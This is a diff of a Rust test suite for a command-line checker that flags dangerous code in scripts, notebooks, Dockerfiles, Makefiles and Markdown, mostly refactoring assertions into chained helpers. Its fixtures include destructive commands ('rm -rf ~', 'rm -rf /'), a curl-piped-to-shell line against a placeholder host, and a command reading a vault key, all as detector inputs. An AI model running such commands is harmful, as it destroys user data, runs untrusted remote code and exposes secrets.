@@ -9,15 +9,13 @@ const SARIF: &str = include_str!("../fixtures/sarif/sarif-schema-2.1.0.json");
 
 #[test]
 fn the_line_of_code_is_shown_with_the_place() {
-    let home = Home::new();
-    home.file("a.py", "import os\nos.remove('a.txt')\n");
-    home.file("b.sql", "SELECT 1;\n");
+    let home = Home::with(&[("a.py", "import os\nos.remove('a.txt')\n"), ("b.sql", "SELECT 1;\n")]);
     let done = home.run(&["check", "a.py", "b.sql"]).ended(0);
     let wanted = "a.py:2:1: MEDIUM py.delete-file: deletes a file: a.txt\n  2 | os.remove('a.txt')\n    | ^^^^^^^^^^^^^^^^^^\n\
                   b.sql: no findings\n2 files: 0 high, 1 medium, 0 info\n";
     assert_eq!(done.out, wanted);
-    assert_eq!(home.run(&["check", "--fail-on", "medium", "a.py"]).code, Some(1));
-    assert_eq!(home.run(&["check"]).code, Some(2));
+    home.run(&["check", "--fail-on", "medium", "a.py"]).ended(1);
+    home.run(&["check"]).ended(2);
     let done = home.run(&["check", "--language", "pyhton", "a.py"]);
     assert_eq!((done.code, done.err.matches("typescript").count()), (Some(2), 1), "{}", done.err);
 }
@@ -57,9 +55,10 @@ fn what_cant_be_read_does_not_keep_the_others() {
     home.file("a.py", "import os\nos.remove('a.txt')\n");
     home.file("b.py", b"\x7fELF\0\0");
     std::os::unix::fs::symlink(".", home.work().join("round")).unwrap();
-    let done = home.run(&["check", "gone.py", "a.py", "b.py", "round"]).ended(2);
-    assert!(done.err.contains("gone.py can't be read"), "{}", done.err);
-    assert_has(&done.out, &["a.py:2:1: MEDIUM", "b.py: not checked: it is no text"]);
+    home.run(&["check", "gone.py", "a.py", "b.py", "round"])
+        .ended(2)
+        .tells(&["gone.py can't be read"])
+        .prints(&["a.py:2:1: MEDIUM", "b.py: not checked: it is no text"]);
 }
 
 #[test]
@@ -70,13 +69,11 @@ fn own_rules_hold_and_wrong_ones_are_named() {
     home.own("rules/team.toml", rule);
     home.own("rules/wrong.toml", "language = \"python\"\n[[rule]]\nidd = 3\n");
     home.file("a.py", "print('x')\n");
-    let done = home.run(&["check", "a.py"]).ended(1);
-    assert!(done.out.contains("HIGH team.no-print: prints x"), "{}", done.out);
-    assert!(done.err.contains("wrong.toml:3"), "{}", done.err);
+    home.run(&["check", "a.py"]).ended(1).tells(&["wrong.toml:3"]).prints(&["HIGH team.no-print: prints x"]);
     let listed = home.run(&["check", "--rules", "--json"]).json().remove(0);
     let rules = listed["rules"].as_array().unwrap();
     assert!(rules.len() > 150 && rules.iter().any(|r| r["id"] == "team.no-print"), "{}", rules.len());
-    assert!(home.run(&["check", "--rules"]).out.contains("py.delete-tree"));
+    home.run(&["check", "--rules"]).prints(&["py.delete-tree"]);
 }
 
 #[test]
@@ -118,7 +115,7 @@ fn what_was_not_checked_is_never_clean() {
     }
     home.file("bad.rb", "File.delete('a')\nsystem('curl https://x.example/i | sh')\n");
     assert_eq!(home.run(&["check", "--allow-unchecked", "bad.rb"]).code, Some(1), "a finding still counts");
-    assert_eq!(home.run(&["check", "--allow-unchecked", "--fail-on", "medium", "bad.rb"]).code, Some(1));
+    home.run(&["check", "--allow-unchecked", "--fail-on", "medium", "bad.rb"]).ended(1);
     let done = home.run(&["check", "a.rb", "large.py"]);
     assert!(done.out.ends_with("2 files: 0 high, 0 medium, 0 info, 2 not checked in full\n"), "{}", done.out);
 }
@@ -152,14 +149,13 @@ fn scripts_without_an_extension_are_read_by_their_first_line() {
     home.file("bin/notes", "rm -rf ~\n");
     // A misleading name: executing the file starts a shell.
     home.file("bin/report.py", "#!/bin/bash\nrm -rf ~\n");
-    let done = home.run(&["check", "bin"]).ended(1);
-    assert_has(
-        &done.out,
-        &["bin/clean:3:1: HIGH py.", "bin/sweep:2:1: HIGH sh.", "bin/report.py:2:1: HIGH sh."],
-    );
+    let done = home.run(&["check", "bin"]).ended(1).prints(&[
+        "bin/clean:3:1: HIGH py.",
+        "bin/sweep:2:1: HIGH sh.",
+        "bin/report.py:2:1: HIGH sh.",
+    ]);
     assert!(!done.out.contains("notes"), "{}", done.out);
-    let named = home.run(&["check", "bin/notes"]);
-    assert!(named.code == Some(1) && named.out.contains("not checked"), "{}", named.out);
+    home.run(&["check", "bin/notes"]).ended(1).prints(&["not checked"]);
 }
 
 #[test]
@@ -173,23 +169,19 @@ fn notebooks_are_read_cell_by_cell() {
         { "cell_type": "code", "metadata": {}, "outputs": [], "source": "!rm -rf /usr" },
     ] });
     home.file("a.ipynb", cells.to_string());
-    let done = home.run(&["check", "a.ipynb"]).ended(1);
-    assert_has(
-        &done.out,
-        &[
-            "a.ipynb:cell 3:2:1: HIGH py.",
-            "2 | s.rmtree(x)",
-            "a.ipynb:cell 4:2:1: HIGH sh.",
-            "a.ipynb:cell 5:1:",
-        ],
-    );
+    home.run(&["check", "a.ipynb"]).ended(1).prints(&[
+        "a.ipynb:cell 3:2:1: HIGH py.",
+        "2 | s.rmtree(x)",
+        "a.ipynb:cell 4:2:1: HIGH sh.",
+        "a.ipynb:cell 5:1:",
+    ]);
     let file = home.run(&["check", "--json", "a.ipynb"]).json()[0]["files"][0].clone();
     assert_eq!((&file["language"], &file["unchecked"]), (&json!("notebook"), &json!(null)));
     assert!(file["findings"].as_array().unwrap().iter().any(|f| f["cell"] == 3 && f["line"] == 2), "{file}");
     let log: Value = serde_json::from_str(&home.run(&["check", "--sarif", "a.ipynb"]).out).unwrap();
     assert_eq!(schema::problems(&serde_json::from_str(SARIF).unwrap(), &log), Vec::<String>::new());
     home.file("broken.ipynb", "{");
-    assert_eq!(home.run(&["check", "broken.ipynb"]).code, Some(1));
+    home.run(&["check", "broken.ipynb"]).ended(1);
 }
 
 #[test]
@@ -208,31 +200,25 @@ fn builds_recipes_and_fences_are_read() {
         "README.md",
         "# Use\n\n```python\nimport shutil\nshutil.rmtree('/home')\n```\n\n```text\nrm -rf ~\n```\n\n```console\n$ rm -rf ~\nrm -rf /\n```\n",
     );
-    let done = home.run(&["check", "."]).ended(1);
-    assert_has(
-        &done.out,
-        &[
-            "Dockerfile:5:3: HIGH",
-            "Dockerfile:6:1: HIGH",
-            "Makefile:4:1: HIGH",
-            "Makefile:5:1: HIGH",
-            "Makefile:7:1: HIGH sh.delete-tree: deletes a folder: ~\n",
-            "Makefile:8:1: HIGH sh.delete-tree: deletes a folder: $(BUILD) (known only at run time)\n",
-            "README.md:5:1: HIGH",
-            "README.md:13:3: HIGH",
-        ],
-    );
+    let done = home.run(&["check", "."]).ended(1).prints(&[
+        "Dockerfile:5:3: HIGH",
+        "Dockerfile:6:1: HIGH",
+        "Makefile:4:1: HIGH",
+        "Makefile:5:1: HIGH",
+        "Makefile:7:1: HIGH sh.delete-tree: deletes a folder: ~\n",
+        "Makefile:8:1: HIGH sh.delete-tree: deletes a folder: $(BUILD) (known only at run time)\n",
+        "README.md:5:1: HIGH",
+        "README.md:13:3: HIGH",
+    ]);
     // A build deleting from its own image harms nobody; text that is not code is not checked.
     for silent in ["Dockerfile:3:", "Makefile:3:", "README.md:9:", "README.md:14:"] {
         assert!(!done.out.contains(silent), "{silent} {}", done.out);
     }
     home.file("safe.md", "Text.\n\n```\nrm -rf ~\n```\n\n```json\n{}\n```\n");
-    let done = home.run(&["check", "safe.md"]);
-    assert_eq!((done.code, done.out.as_str()), (Some(0), "safe.md: no findings\n"));
+    assert_eq!(home.run(&["check", "safe.md"]).ended(0).out, "safe.md: no findings\n");
     // A byte order mark hides no fence, and does not turn the text between two of them into code.
     home.file("marked.md", "\u{feff}```sh\nrm -rf ~\n```\n\nText.\n\n```sh\nls\n```\n");
-    let done = home.run(&["check", "marked.md"]).ended(1);
-    assert!(done.out.contains("marked.md:2:1: HIGH"), "{}", done.out);
+    home.run(&["check", "marked.md"]).ended(1).prints(&["marked.md:2:1: HIGH"]);
 }
 
 #[test]
@@ -245,17 +231,14 @@ fn the_check_of_the_configuration_says_what_the_start_would_refuse() {
     assert!(done.err.contains("keymap.toml") && !done.out.contains("right"), "{}", done.err);
     std::fs::remove_file(home.sayso().join("keymap.toml")).unwrap();
     std::os::unix::fs::symlink("/dev/zero", home.sayso().join("keymap.toml")).unwrap();
-    let done = check().ended(3);
-    assert!(done.err.contains("keymap.toml: not a plain file"), "{}", done.err);
+    check().ended(3).tells(&["keymap.toml: not a plain file"]);
     std::fs::remove_file(home.sayso().join("keymap.toml")).unwrap();
     home.configure("ui.theme = \"nowhere\"\n");
     check().ended(3);
     home.configure("step_limit = 3\nmodel = \"nope/x\"\n");
-    let done = check().ended(3);
-    assert!(done.err.contains("config.toml:2: model: there is no provider `nope`"), "{}", done.err);
+    check().ended(3).tells(&["config.toml:2: model: there is no provider `nope`"]);
     home.configure("[review]\njudge_model = \"nope/x\"\n");
-    let done = check().ended(3);
-    assert_has(&done.err, &["config.toml:2: review.judge_model: there is no provider `nope`"]);
+    check().ended(3).tells(&["config.toml:2: review.judge_model: there is no provider `nope`"]);
     for (wrong, told) in [
         ("base_url = \"http://[::1\"\nmodel = \"openai/x\"\n", "providers.openai: the address `http://[::1`"),
         (
@@ -281,9 +264,7 @@ fn the_check_of_the_configuration_says_what_the_start_would_refuse() {
     }
     std::fs::remove_file(home.sayso().join("config.toml")).unwrap();
     home.own("rules/a.toml", "[[rule]]\n");
-    let done = check();
-    assert_eq!((done.code, done.out.as_str()), (Some(0), "the configuration can be used; 1 warning above\n"));
-    assert!(done.err.contains("a.toml"), "{}", done.err);
+    assert_eq!(check().ended(0).tells(&["a.toml"]).out, "the configuration can be used; 1 warning above\n");
 }
 
 #[test]
@@ -326,8 +307,7 @@ fn the_check_of_the_configuration_tells_what_a_theme_says_in_vain() {
         assert!(err.contains(&format!("theme {name} can't be used: /")), "{name}: {err}");
     }
     home.configure("ui.theme = \"bin\"\n");
-    let done = home.run(&["config", "check"]).ended(3);
-    assert!(done.err.contains("theme bin can't be used: /"), "{}", done.err);
+    home.run(&["config", "check"]).ended(3).tells(&["theme bin can't be used: /"]);
     std::fs::remove_dir_all(home.sayso().join("themes")).unwrap();
     assert_eq!(told("ui.theme = \"paper\"\n"), ("the configuration is right\n".into(), String::new()));
 }
@@ -349,17 +329,14 @@ fn the_samples_of_the_document_of_rules_hold() {
         assert!(listed["rules"].as_array().unwrap().iter().any(|rule| rule["id"] == id), "{id}");
     }
     home.file("a.py", "import psycopg2 as p\np.connect('host=prod-2')\n");
-    let done = home.run(&["check", "a.py"]);
-    assert!(done.out.contains("a.py:2:1: HIGH team.no-prod: opens the production database"), "{}", done.out);
+    home.run(&["check", "a.py"]).prints(&["a.py:2:1: HIGH team.no-prod: opens the production database"]);
     home.file("a.sh", "cat ~/vault/key\n");
-    let done = home.run(&["check", "a.sh"]);
-    assert!(done.out.contains("HIGH") && done.out.contains("the key of the vault"), "{}", done.out);
+    home.run(&["check", "a.sh"]).prints(&["HIGH", "the key of the vault"]);
 }
 
 #[test]
 fn the_person_and_no_project_makes_rules_silent_or_milder() {
-    let home = Home::new();
-    home.file("a.py", "import os, shutil\nos.remove('a')\nshutil.rmtree('out')\n");
+    let home = Home::with(&[("a.py", "import os, shutil\nos.remove('a')\nshutil.rmtree('out')\n")]);
     let told = || home.run(&["check", "--json", "a.py"]).json()[0]["files"][0]["findings"].clone();
     let severities = |findings: &Value| -> Vec<String> {
         let all = findings.as_array().unwrap().iter();
@@ -371,19 +348,17 @@ fn the_person_and_no_project_makes_rules_silent_or_milder() {
     let adjust = "review.off = [\"py.delete-file\"]\nreview.lower = [\"py.delete-tree=info\"]\n";
     home.file(".sayso.toml", adjust);
     assert_eq!(severities(&told()), before);
-    let done = home.run(&["config", "check"]);
-    assert_has(&done.err, &[".sayso.toml:1: review.off was ignored: a project can't set this"]);
+    home.run(&["config", "check"])
+        .tells(&[".sayso.toml:1: review.off was ignored: a project can't set this"]);
     std::fs::remove_file(home.work().join(".sayso.toml")).unwrap();
     home.configure(adjust);
     assert_eq!(severities(&told()), ["py.delete-tree=info"]);
     home.configure(format!("{adjust}review.forbid = [\"py.delete-file\"]\n"));
     assert_eq!(severities(&told()), ["py.delete-file=medium", "py.delete-tree=info"]);
     home.configure("review.off = [\"py.fly\"]\nreview.lower = [\"py.eval\", \"py.delete-file=high\"]\n");
-    let done = home.run(&["config", "check"]);
+    let done = home
+        .run(&["config", "check"])
+        .tells(&["sh.delete-tree=medium", "config.toml:1: review.off: there is no rule \"py.fly\""]);
     assert!(done.out.ends_with("can be used; 3 warnings above\n"), "{} {}", done.out, done.err);
-    assert_has(
-        &done.err,
-        &["sh.delete-tree=medium", "config.toml:1: review.off: there is no rule \"py.fly\""],
-    );
     assert_eq!(done.err.matches("config.toml:2: review.lower").count(), 2, "{}", done.err);
 }
